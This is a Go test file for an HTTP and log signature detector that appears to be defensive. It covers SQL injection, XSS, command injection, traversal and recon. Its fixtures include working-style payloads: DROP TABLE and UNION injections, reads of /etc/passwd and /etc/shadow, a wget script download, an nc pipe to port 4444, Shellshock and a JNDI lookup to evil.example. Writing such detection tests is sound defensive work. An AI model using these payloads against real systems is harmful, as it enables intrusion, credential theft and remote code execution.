package detection

import (
	"context"
	"net/netip"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Skyrzilla/Dual-Domain-Cyber-Electronic-Warfare-Defence-Integration/internal/domain"
)

const browserUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"

func httpEvent(path, ua string) *domain.Event {
	return &domain.Event{
		SourceIP:  netip.MustParseAddr("10.0.0.1"),
		Timestamp: time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC),
		Kind:      domain.EventKindHTTPRequest,
		Method:    "GET",
		Path:      path,
		UserAgent: ua,
	}
}

func mustSignature(t *testing.T, f Family) *SignatureDetector {
	t.Helper()
	d, err := NewSignatureDetector(f, nil)
	require.NoError(t, err)
	return d
}

type signatureCase struct {
	name      string
	path      string
	ua        string
	wantMatch string
	wantSev   domain.Severity
}

func runSignatureCases(t *testing.T, family Family, tests []signatureCase) {
	t.Helper()
	detector := mustSignature(t, family)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ua := tc.ua
			if ua == "" {
				ua = browserUA
			}
			findings := detector.Inspect(context.Background(), httpEvent(tc.path, ua))
			if tc.wantMatch == "" {
				assert.Empty(t, findings)
				return
			}
			require.Len(t, findings, 1)
			f := findings[0]
			assert.Equal(t, tc.wantMatch, f.MatchType)
			assert.Equal(t, tc.wantSev, f.Severity)
			assert.Equal(t, family.Signature(), f.Signature)
			assert.Equal(t, string(family), f.DetectorID)
			assert.NotEmpty(t, f.ID)
		})
	}
}

func TestSignatureDetector_SQLInjection(t *testing.T) {
	runSignatureCases(t, FamilySQLi, []signatureCase{
		{name: "UNION SELECT", path: "/search?id=1 UNION SELECT username,password FROM users", wantMatch: "union_based", wantSev: domain.SeverityHigh},
		{name: "comment only", path: "/login?user=admin'--", wantMatch: "comment", wantSev: domain.SeverityMedium},
		{name: "tautology beats comment", path: "/login?user=admin' OR 1=1 --", wantMatch: "tautology", wantSev: domain.SeverityHigh},
		{name: "stacked DROP", path: "/api?id=1; DROP TABLE users", wantMatch: "stacked_query", wantSev: domain.SeverityCritical},
		{name: "time based", path: "/api?id=1 AND SLEEP(5)", wantMatch: "time_based", wantSev: domain.SeverityHigh},
		{name: "url encoded", path: "/login?user=admin%27%20OR%201%3D1", wantMatch: "tautology", wantSev: domain.SeverityHigh},
		{name: "double encoded", path: "/login?user=admin%2527%2520OR%25201%253D1", wantMatch: "tautology", wantSev: domain.SeverityHigh},
		{name: "plus as space", path: "/search?q=1+UNION+ALL+SELECT+1", wantMatch: "union_based", wantSev: domain.SeverityHigh},
		{name: "AND tautology by token shape", path: "/items?id=1 AND 1=1", wantMatch: "token_fingerprint", wantSev: domain.SeverityHigh},
		{name: "quoted string tautology by token shape", path: "/product?name=x'%20AND%20'a'='a", wantMatch: "token_fingerprint", wantSev: domain.SeverityHigh},
		{name: "inline comment splits UNION SELECT", path: "/item?id=1%20UNION/**/SELECT%201", wantMatch: "token_fingerprint", wantSev: domain.SeverityHigh},
		{name: "keyword without query string", path: "/blog/union-select-recipes", wantMatch: ""},
		{name: "order parameter", path: "/products?sort=price&order=asc", wantMatch: ""},
		{name: "normal request", path: "/api/users/123", wantMatch: ""},
	})
}

func TestSignatureDetector_XSS(t *testing.T) {
	runSignatureCases(t, FamilyXSS, []signatureCase{
		{name: "script tag", path: "/comment?text=<script>alert('xss')</script>", wantMatch: "script_tag", wantSev: domain.SeverityHigh},
		{name: "encoded script tag", path: "/comment?text=%3Cscript%3Ealert(1)%3C/script%3E", wantMatch: "script_tag", wantSev: domain.SeverityHigh},
		{name: "javascript protocol", path: "/link?url=javascript:alert(1)", wantMatch: "js_protocol", wantSev: domain.SeverityMedium},
		{name: "event handler", path: "/img?src=x onerror=alert(1)", wantMatch: "event_handler", wantSev: domain.SeverityMedium},
		{name: "full width brackets", path: "/q?x=＜script＞", wantMatch: "script_tag", wantSev: domain.SeverityHigh},
		{name: "benign", path: "/blog/posts?title=javascript-tips", wantMatch: ""},
	})
}

func TestSignatureDetector_CommandInjection(t *testing.T) {
	runSignatureCases(t, FamilyCmdInjection, []signatureCase{
		{name: "command chaining", path: "/ping?host=127.0.0.1;cat /etc/passwd", wantMatch: "command_chaining", wantSev: domain.SeverityHigh},
		{name: "trailing command", path: "/ping?host=127.0.0.1|id", wantMatch: "command_chaining", wantSev: domain.SeverityHigh},
		{name: "command with flags", path: "/ping?host=x%26%26uname%20-a", wantMatch: "command_chaining", wantSev: domain.SeverityHigh},
		{name: "download", path: "/ping?host=x;wget http://203.0.113.9/x.sh", wantMatch: "command_chaining", wantSev: domain.SeverityHigh},
		{name: "parameter named like a command", path: "/items?a=1;id=42", wantMatch: ""},
		{name: "subshell", path: "/x?cmd=$(whoami)", wantMatch: "subshell", wantSev: domain.SeverityHigh},
		{name: "shellshock user agent", path: "/cgi-bin/status", ua: "() { :; }; /bin/bash -c 'id'", wantMatch: "shellshock", wantSev: domain.SeverityCritical},
		{name: "jndi lookup", path: "/api?q=${jndi:ldap://evil.example/a}", wantMatch: "jndi_lookup", wantSev: domain.SeverityCritical},
		{name: "benign query", path: "/search?q=rock+and+roll&page=2", wantMatch: ""},
	})
}

func TestSignatureDetector_DirectoryTraversal(t *testing.T) {
	runSignatureCases(t, FamilyDirTraversal, []signatureCase{
		{name: "passwd", path: "/static/../../etc/passwd", wantMatch: "sensitive_file", wantSev: domain.SeverityHigh},
		{name: "encoded dot dot", path: "/download?file=..%2F..%2Fconfig", wantMatch: "dot_dot_slash", wantSev: domain.SeverityMedium},
		{name: "php wrapper", path: "/page?file=php://filter/resource=index", wantMatch: "stream_wrapper", wantSev: domain.SeverityHigh},
		{name: "benign versioned path", path: "/docs/v1.2/index.html", wantMatch: ""},
	})
}

func TestSignatureDetector_Recon(t *testing.T) {
	runSignatureCases(t, FamilyRecon, []signatureCase{
		{name: "scanner user agent", path: "/", ua: "sqlmap/1.7.2#stable (https://sqlmap.org)", wantMatch: "scanner_agent", wantSev: domain.SeverityLow},
		{name: "dotenv probe", path: "/.env", wantMatch: "config_exposure", wantSev: domain.SeverityMedium},
		{name: "admin probe", path: "/wp-admin/", wantMatch: "admin_probe", wantSev: domain.SeverityLow},
		{name: "browser", path: "/index.html", wantMatch: ""},
	})
}

func TestSignatureDetectors_NoFalsePositivesOnBenignTraffic(t *testing.T) {
	benign := []string{
		"/",
		"/index.html",
		"/api/v1/users?page=2&limit=50",
		"/products?sort=price&order=asc",
		"/static/css/main.css",
		"/search?q=network+security+basics",
		"/checkout?cart=1234&coupon=SPRING",
		"/search?q=c%23",
		"/search?q=c%23+tutorial",
	}
	benignLines := []string{
		"10.1.1.1 session opened; id=42 user=bob",
		"10.1.1.2 job finished && ls output archived",
		"10.1.1.3 backup completed; cat videos moved to archive",
		"10.1.1.4 user bob changed pwd successfully",
		"10.1.1.5 GET /search?q=c%23 returned 200",
		"sshd[811]: Accepted publickey for deploy from 10.1.1.9 port 52144 ssh2",
		"nginx: worker process 812 exited on signal 9 | respawning",
	}
	for _, fam := range []Family{FamilySQLi, FamilyXSS, FamilyCmdInjection, FamilyDirTraversal, FamilyRecon} {
		d := mustSignature(t, fam)
		for _, path := range benign {
			assert.Empty(t, d.Inspect(context.Background(), httpEvent(path, browserUA)), "%s fired on %s", fam, path)
		}
		for _, line := range benignLines {
			assert.Empty(t, d.Inspect(context.Background(), logLineEvent(line)), "%s fired on %q", fam, line)
		}
	}
}

func logLineEvent(line string) *domain.Event {
	ev := &domain.Event{
		SourceIP:  netip.MustParseAddr("10.1.1.1"),
		Timestamp: time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC),
		Kind:      domain.EventKindLogLine,
	}
	ev.SetPayload(line)
	return ev
}

func TestSignatureDetector_CommandInjectionInLogLines(t *testing.T) {
	d := mustSignature(t, FamilyCmdInjection)
	for _, line := range []string{
		"10.2.2.2 form field name=x; cat /etc/shadow",
		"10.2.2.3 input rejected: a && whoami",
		"10.2.2.4 payload ping 1.1.1.1 | nc 203.0.113.5 4444",
	} {
		findings := d.Inspect(context.Background(), logLineEvent(line))
		require.Len(t, findings, 1, line)
		assert.Equal(t, "command_chaining", findings[0].MatchType)
		assert.Equal(t, "payload", findings[0].Evidence["field"])
	}
}

func TestSignatureDetectors_OverlappingFamiliesFireIndependently(t *testing.T) {
	ev := httpEvent("/ping?host=127.0.0.1;cat /etc/passwd", browserUA)

	cmd := mustSignature(t, FamilyCmdInjection).Inspect(context.Background(), ev)
	trav := mustSignature(t, FamilyDirTraversal).Inspect(context.Background(), ev)

	require.Len(t, cmd, 1)
	require.Len(t, trav, 1)
	assert.NotEqual(t, cmd[0].ID, trav[0].ID)
	assert.Equal(t, domain.SignatureCommandInjection, cmd[0].Signature)
	assert.Equal(t, domain.SignatureDirTraversal, trav[0].Signature)
}

func TestSignatureDetector_EvidenceListsAllMatches(t *testing.T) {
	d := mustSignature(t, FamilySQLi)
	findings := d.Inspect(context.Background(), httpEvent("/login?user=admin' OR 1=1 --", browserUA))

	require.Len(t, findings, 1)
	assert.Equal(t, "tautology,comment,token_fingerprint", findings[0].Evidence["matched"])
	assert.Equal(t, "sknonc", findings[0].Evidence["fingerprint"])
	assert.Equal(t, "3", findings[0].Evidence["patterns"])
	assert.Equal(t, "path", findings[0].Evidence["field"])
}

func TestSignatureDetector_LogLinePayload(t *testing.T) {
	d := mustSignature(t, FamilyXSS)
	ev := &domain.Event{
		SourceIP:  netip.MustParseAddr("192.168.1.20"),
		Timestamp: time.Now(),
		Kind:      domain.EventKindLogLine,
		Payload:   "comment rejected: <script>document.cookie</script>",
	}
	findings := d.Inspect(context.Background(), ev)
	require.Len(t, findings, 1)
	assert.Equal(t, "payload", findings[0].Evidence["field"])
}

func TestSignatureDetector_IgnoresConnectionsAndInvalid(t *testing.T) {
	d := mustSignature(t, FamilySQLi)

	conn := &domain.Event{SourceIP: netip.MustParseAddr("10.0.0.5"), Kind: domain.EventKindConnection, DestinationPort: 22}
	assert.Empty(t, d.Inspect(context.Background(), conn))
	assert.Empty(t, d.Inspect(context.Background(), nil))
	assert.Empty(t, d.Inspect(context.Background(), &domain.Event{Path: "/?id=1 UNION SELECT 1"}))
}

func TestSignatureDetector_CancelledContext(t *testing.T) {
	d := mustSignature(t, FamilySQLi)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	assert.Empty(t, d.Inspect(ctx, httpEvent("/?id=1 UNION SELECT 1", browserUA)))
}

func TestSignatureDetector_AddPattern(t *testing.T) {
	d := mustSignature(t, FamilySQLi)
	before := d.PatternCount()

	require.NoError(t, d.AddPattern("SQL Injection - Schema", "schema_probe", `(?i)information_schema`, domain.SeverityHigh, []string{"information_schema"}))
	assert.Error(t, d.AddPattern("broken", "broken", `([`, domain.SeverityLow, nil))
	assert.Equal(t, before+1, d.PatternCount())

	findings := d.Inspect(context.Background(), httpEvent("/api?t=information_schema.tables", browserUA))
	require.Len(t, findings, 1)
	assert.Equal(t, "schema_probe", findings[0].MatchType)
}

func TestNewSignatureDetector_RejectsAggregators(t *testing.T) {
	_, err := NewSignatureDetector(FamilyPortScan, nil)
	assert.Error(t, err)
	_, err = NewSignatureDetector(Family("bogus"), nil)
	assert.Error(t, err)
}

func TestNormalizeForDetection(t *testing.T) {
	tests := []struct {
		in    string
		query bool
		want  string
	}{
		{"%2527", false, "'"},
		{"a+b", true, "a b"},
		{"a+b", false, "a+b"},
		{"a%00b", false, "ab"},
		{"a\x00b", false, "ab"},
		{"%zz", false, "%zz"},
		{"ＳＥＬＥＣＴ", false, "SELECT"},
		{"", false, ""},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			assert.Equal(t, tc.want, normalizeForDetection(tc.in, tc.query))
		})
	}
}
